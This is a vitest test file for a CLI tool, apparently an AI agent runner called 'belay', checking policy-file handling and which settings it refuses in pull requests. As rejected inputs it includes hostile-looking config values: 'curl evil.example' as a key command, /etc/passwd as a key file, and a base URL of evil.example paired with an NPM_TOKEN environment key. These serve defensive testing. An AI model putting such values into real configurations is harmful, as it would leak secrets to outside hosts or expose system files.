import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Bench, commitAll, createBench, runCli } from '../scenario.ts';

const POLICY = 'version: 1\nlimits: {turns: 5}\nverify: {checks: []}\n';
let bench: Bench;
let cassette: string;
beforeEach(() => {
  bench = createBench({ 'belay.yml': POLICY });
  commitAll(bench);
  cassette = join(bench.io, 'model.jsonl');
  writeFileSync(cassette, '{"tool_calls":[{"name":"finish","input":{"status":"done","summary":"done"}}]}\n');
});
afterEach(() => bench.remove());

const run = (args: readonly string[] = [], env: NodeJS.ProcessEnv = {}) =>
  runCli(['run', 'go', '--replay', cassette, ...args], bench, { env });

describe('an edit of the policy that is not committed', () => {
  it('does not count, and is told', async () => {
    bench.write('belay.yml', POLICY.replace('5', '7'));
    const { result, stderr } = await run();
    expect(result).toMatchObject({ outcome: 'unchecked', limits: { turns: { max: 5 } } });
    expect(stderr).toContain('belay: belay.yml has changes that are not committed and do not count; HEAD:belay.yml');
  });

  it('is told by every command that goes by the committed one', async () => {
    const events = join(bench.io, 'events.jsonl');
    const { result: first } = await run(['--events', events, '--turns', '1']);
    bench.write('jobs.jsonl', '{"id": "one", "goal": "go"}\n');
    bench.write('belay.yml', POLICY.replace('5', '7'));
    for (const args of [
      ['verify'],
      ['resume', first?.thread_id ?? ''],
      ['replay', events],
      ['batch', 'plan', 'jobs.jsonl'],
    ]) {
      const { stderr } = await runCli(args, bench);
      expect(stderr.split('belay.yml has changes that are not committed and do not count').length, args[0]).toBe(2);
    }
  });

  it('counts where the file is named, and nothing is told where there is none', async () => {
    expect((await run()).stderr).not.toContain('not committed');
    bench.write('belay.yml', POLICY.replace('5', '7'));
    const { result, stderr } = await run(['--policy', 'belay.yml']);
    expect(result).toMatchObject({ limits: { turns: { max: 7 } } });
    expect(stderr).not.toContain('not committed');
  });
});

describe("an organisation's floor", () => {
  it('tightens, by the option and by the environment, both digests are told, and a conflict names both lines', async () => {
    const floor = join(bench.io, 'floor.yml');
    writeFileSync(floor, 'version: 1\nlimits:\n  turns: 3\n');
    for (const { code, result } of [
      await run(['--policy-floor', floor]),
      await run([], { BELAY_POLICY_FLOOR: floor }),
    ]) {
      expect({ code, outcome: result?.outcome }).toEqual({ code: 2, outcome: 'usage_error' });
      expect(result?.reason).toContain('belay.yml:2:10');
      expect(result?.reason).toContain('floor.yml:3:3');
    }
    const met = 'version: 1\nlimits:\n  turns: 6\n  attempts: 2\n';
    writeFileSync(floor, met);
    const { code, result } = await run(['--policy-floor', floor]);
    const digest = (text: string) => createHash('sha256').update(text).digest('hex');
    expect({ code, policy: result?.policy, limits: result?.limits }).toMatchObject({
      code: 0,
      policy: { sha256: digest(POLICY), floor_sha256: digest(met) },
      limits: { turns: { max: 5 }, attempts: { max: 2 } },
    });
  });
});

/** How a pull request is known, which is asked once for all that is refused in one. */
const PULL_REQUESTS = [{ GITHUB_EVENT_NAME: 'pull_request_target' }, { CI_MERGE_REQUEST_IID: '7' }];

describe('in a pull request without --trust-ref', () => {
  it.each([
    ['sandbox: {mode: off}', 'sandbox.mode: off is refused'],
    ['setup: [{run: "true", env: {pass: [KEY]}}]', 'setup[].env.pass is refused'],
    ['sandbox: {require: external}', 'sandbox.require: external is refused'],
    ['sandbox: {env: {pass: [LANG, NPM_TOKEN]}}', 'env.pass of NPM_TOKEN is refused'],
    ['model: {provider: openai, name: x, api_key_command: "curl evil.example"}', 'model.api_key_command is refused'],
    ['model: {provider: openai, name: x, api_key_file: /etc/passwd}', 'model.api_key_file is refused'],
    ['model: {provider: openai, name: x, headers_env: {x-a: TOKEN}}', 'model.headers_env is refused'],
    [
      'model: {provider: openai, name: x, base_url: "https://evil.example", api_key_env: NPM_TOKEN}',
      'model.base_url with model.api_key_env is refused',
    ],
  ])('%s is a usage error', async (line, words) => {
    bench.write('belay.yml', `${POLICY}${line}\n`);
    commitAll(bench);
    const ofBase = await run(['--trust-ref', 'HEAD'], { GITHUB_EVENT_NAME: 'pull_request' });
    expect(ofBase.result?.reason).not.toContain('pull request');
    for (const env of line.includes('mode: off') ? PULL_REQUESTS : PULL_REQUESTS.slice(0, 1)) {
      const { code, result } = await run([], env);
      expect({ code, outcome: result?.outcome }).toEqual({ code: 2, outcome: 'usage_error' });
      expect(result?.reason).toContain(words);
    }
  });
});

describe('output files', () => {
  it('that are one and the same are refused before the run', async () => {
    const file = join(bench.io, 'out');
    const { code, result } = await run(['--result', file, '--patch', file]);
    expect({ code, outcome: result?.outcome }).toEqual({ code: 2, outcome: 'usage_error' });
    expect(result?.reason).toContain('--result and --patch name the same file');
  });
});
